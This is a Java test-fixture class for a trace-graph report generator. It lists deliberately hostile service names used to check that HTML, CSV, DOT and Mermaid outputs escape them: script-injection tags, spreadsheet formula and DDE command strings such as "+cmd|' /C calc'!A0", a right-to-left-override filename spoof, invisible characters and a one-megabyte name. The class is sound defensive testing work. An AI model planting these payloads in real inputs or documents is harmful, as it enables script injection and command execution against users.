package io.tracegraph.reports;

import io.tracegraph.reports.graph.CallStats;
import io.tracegraph.reports.graph.GraphData;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;

/**
 * Service names that break naive writers, for the tests of every output: markup and script, quotes and
 * apostrophes, entities, line breaks and tabs, CSV separators, spreadsheet formulas, DOT and Mermaid syntax, a
 * right-to-left override and other invisible characters, non-ASCII and a surrogate pair, and a name of one
 * megabyte (with a surrogate pair where the HTML report and the Mermaid labels shorten it).
 */
public final class HostileNames {
  /** A right-to-left override (U+202E) in a name: shown as is, "evil" + RLO + "gpj.exe" reads "evilexe.jpg". */
  public static final String RLO = "evil\u202Egpj.exe";

  /** 1 MiB characters; emoji straddle characters 29/30 and 199/200, where the labels are cut. */
  public static final String MEGABYTE = megabyte();

  public static final List<String> ALL = List.of(
      "<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>", "<!--", "]]>",
      "say \"hi\"", "it's", "a&b;'c'", "&lt;not&gt; &amp;", "#quot;", "back\\slash", "trailing\\", "\\N\\l",
      "line\nbreak", "tab\there", "cr\rlf", "comma,separated", "semi;colon", "key=value",
      "=HYPERLINK(\"http://x.test/\"&A1,\"y\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=tabbed",
      "\uFF1Dfullwidth", RLO, "\u2067isolate\u2069 mark\u200F", "sep\u2028para\u2029", "del\u007F c1\u0085",
      "bom\uFEFF", "ünïcødé-服务", "emoji-\uD83D\uDE00", "pipe|`tick`", "{brace}[bracket];", " leading space",
      MEGABYTE);

  private HostileNames() {}

  private static String megabyte() {
    StringBuilder sb = new StringBuilder("mb-").append("m".repeat(25)).append("\uD83D\uDE00"); // chars 28-29
    sb.append("m".repeat(198 - sb.codePointCount(0, sb.length()))).append("\uD83D\uDE00"); // char 199
    while (sb.length() < (1 << 20)) sb.append("<\"&' ");
    sb.setLength(1 << 20);
    return sb.toString();
  }

  /**
   * Every name on a chain {@code web → ALL[0] → ALL[1] → ...} with distinct counts, the last calling itself; every
   * other name is an uninstrumented peer, so both node shapes carry hostile names.
   */
  public static GraphData graph(LocalDate day) {
    List<CallStats> edges = new ArrayList<>();
    Set<String> instrumented = new TreeSet<>(Set.of("web"));
    String previous = "web";
    for (int i = 0; i < ALL.size(); i++) {
      edges.add(CallStats.of(previous, ALL.get(i), 10 + i, i % 3));
      if (i % 2 == 0) instrumented.add(ALL.get(i));
      previous = ALL.get(i);
    }
    edges.add(CallStats.of(previous, previous, 3, 1));
    instrumented.add(previous);
    return GraphData.of(day, null, edges, instrumented);
  }
}
